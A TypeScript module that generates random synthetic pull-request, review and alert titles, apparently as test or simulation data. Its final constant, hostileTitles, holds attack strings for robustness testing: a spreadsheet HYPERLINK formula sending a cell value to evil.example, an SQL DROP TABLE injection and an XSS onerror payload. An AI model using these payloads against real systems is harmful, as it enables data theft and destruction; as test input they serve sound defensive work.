import type { Random } from './random.ts';

const verbs = [
  'Add',
  'Remove',
  'Speed up',
  'Simplify',
  'Rework',
  'Validate',
  'Document',
  'Log',
  'Trace',
  'Cache',
  'Retry',
  'Test',
] as const;
const objects = [
  'the retry policy',
  'currency rounding',
  'idempotency keys',
  'webhook signatures',
  'pagination of lists',
  'the health endpoint',
  'request validation',
  'connection pooling',
  'the settlement window',
  'error messages',
  'the outbox table',
  'timeouts towards partners',
  'feature switches',
  'the nightly job',
  'rate limits',
  'address parsing',
  'the import of fees',
  'dashboards',
] as const;
const packages = [
  'fastify',
  'zod',
  'pino',
  'lodash',
  'axios',
  'jackson-databind',
  'grpc-go',
  'requests',
  'protobuf',
  'postgres-driver',
] as const;
const praise = ['Looks good.', 'Nice, thanks!', 'LGTM', '👍', 'Works for me on staging.', ''] as const;
const doubts = [
  'Could this name say what it holds?',
  'What happens on a timeout here?',
  'Please add a test for the empty case.',
  'I would split this in two.',
] as const;
const troubles = [
  'Error rate above 5 %',
  'Latency p99 above 2 s',
  'Queue is not draining',
  'Health check failing',
  'Out of memory',
  'Too many 5xx from upstream',
] as const;
const grumbles = ['Disk 80 % full', 'Certificate expires in 14 days', 'Replica lag', 'Flapping health check'] as const;

export function featureTitle(chance: Random): string {
  return `${chance.pick(verbs)} ${chance.pick(objects)}`;
}

export function hotfixTitle(broken: string): string {
  return `Hotfix: undo the damage of “${broken}”`;
}

export function updateTitle(chance: Random): string {
  const major = chance.whole(1, 9);
  const minor = chance.whole(0, 20);
  return `Bump ${chance.pick(packages)} from ${major}.${minor}.0 to ${major}.${minor + 1}.0`;
}

export function praised(chance: Random): string {
  return chance.pick(praise);
}

export function doubted(chance: Random): string {
  return chance.pick(doubts);
}

export function troubleTitle(chance: Random, service: string): string {
  return `${chance.pick(troubles)} on ${service}`;
}

export function grumbleTitle(chance: Random, service: string): string {
  return `${chance.pick(grumbles)} on ${service}`;
}

/** Text that people and attackers do put into titles; whoever shows or exports it must cope. */
export const hostileTitles = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
  `Robert'); DROP TABLE pull_request;--`,
  '<img src=x onerror=alert(1)> fix header',
  '🔥 “Fix” the «café» bug\tand tabs',
] as const;
